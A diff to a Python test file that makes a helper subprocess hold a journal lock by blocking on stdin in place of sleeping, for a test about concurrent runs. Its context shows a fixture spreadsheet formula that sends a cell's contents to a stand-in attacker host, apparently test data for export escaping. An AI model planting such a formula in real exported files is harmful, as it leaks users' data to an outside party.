@@ -26,11 +26,11 @@ NOWHERE = "http://127.0.0.1:9/"  # nothing listens there: a job that got as far 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
 # A run that holds its journal until it is killed; it says so once it does.
 HOLDER = """
-import sys, time
+import sys
 from flows.journal import Journal
 journal = Journal(sys.argv[1], owner={"base_url": "http://127.0.0.1:8000/", "user": "admin-agent"})
 print("holding", flush=True)
-time.sleep(120)
+sys.stdin.read()  # until the test ends it
 """
 
 
@@ -123,7 +123,7 @@ def test_a_second_run_on_a_journal_in_use_is_refused_and_the_first_one_s_record_
 def test_a_run_holds_its_journal_while_it_lives_and_a_crash_leaves_it_free(tmp_path: Path) -> None:
     path = tmp_path / "run.journal"
     with subprocess.Popen(
-        [sys.executable, "-c", HOLDER, str(path)], cwd=ROOT, stdout=subprocess.PIPE, text=True
+        [sys.executable, "-c", HOLDER, str(path)], cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
     ) as run:
         try:
             assert run.stdout is not None and run.stdout.readline() == "holding\n"
